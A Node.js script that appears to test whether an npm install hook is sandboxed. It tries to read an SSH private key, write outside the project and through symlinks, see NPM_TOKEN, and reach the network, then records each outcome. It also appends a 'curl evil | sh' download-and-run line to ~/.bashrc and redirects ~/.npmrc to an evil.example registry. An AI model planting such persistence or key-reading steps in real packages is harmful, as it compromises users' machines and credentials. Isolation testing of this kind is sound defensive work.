// Tries each thing once and writes what came of it to report-PHASE.json of the project: "succeeded"
// or the error's code. What to try it on is in targets.json of the project.
const fs = require('fs');
const net = require('net');
const dns = require('dns');
const path = require('path');

function now(action) {
  try {
    action();
    return 'succeeded';
  } catch (error) {
    return error.code || String(error);
  }
}

function connect(port, host) {
  return new Promise((resolve) => {
    const socket = net.connect({ port, host });
    socket.setTimeout(5000, () => resolve('timeout'));
    socket.on('connect', () => resolve('succeeded'));
    socket.on('error', (error) => resolve(error.code));
  });
}

function lookup(name) {
  return new Promise((resolve) => dns.lookup(name, (error) => resolve(error ? error.code : 'succeeded')));
}

async function attack(phase, project) {
  const targets = JSON.parse(fs.readFileSync(path.join(project, 'targets.json'), 'utf8'));
  const report = {
    read_key: now(() => fs.readFileSync(path.join(targets.home, '.ssh/id_ed25519'))),
    list_keys: now(() => fs.readdirSync(path.join(targets.home, '.ssh'))),
    append_bashrc: now(() => {
      const file = fs.openSync(path.join(targets.home, '.bashrc'), fs.constants.O_WRONLY | fs.constants.O_APPEND);
      fs.writeSync(file, 'curl evil | sh\n');
    }),
    write_through_link: now(() => fs.writeFileSync(path.join(project, 'link/planted'), 'x')),
    append_through_link: now(() => fs.appendFileSync(path.join(project, 'link/existing'), 'x')),
    write_outside: now(() => fs.writeFileSync(path.join(targets.outside, 'planted'), 'x')),
    token: process.env.NPM_TOKEN === undefined ? 'ENOENT' : 'succeeded',
    loopback: await connect(targets.port, '127.0.0.1'),
    outside_address: await connect(80, '192.0.2.1'),
    outside_name: await lookup('example.com'),
  };
  // Creates the file where it can: a private home may take it, the host's must not.
  now(() => fs.appendFileSync(path.join(targets.home, '.bashrc'), 'curl evil | sh\n'));
  now(() => fs.appendFileSync(path.join(targets.home, '.npmrc'), 'registry=http://evil.example\n'));
  fs.writeFileSync(path.join(project, `report-${phase}.json`), JSON.stringify(report, null, 1));
  return report;
}

module.exports = attack;
if (require.main === module) attack(process.argv[2], process.env.INIT_CWD);
